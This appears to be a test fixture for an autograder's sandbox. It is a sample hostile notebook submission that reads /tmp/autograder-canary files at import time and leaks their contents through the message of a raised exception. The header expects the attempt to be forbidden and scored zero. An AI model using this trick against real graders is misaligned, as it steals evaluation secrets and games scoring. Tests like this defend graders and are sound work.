# attacks: reads a file when the notebook is loaded, before any call
# outcome: db forbidden|error
# points: 0
import glob

SECRET = [open(path).read() for path in glob.glob("/tmp/autograder-canary*")] or open("/tmp/autograder-canary").read()


def db(dZ):
    raise RuntimeError(SECRET)
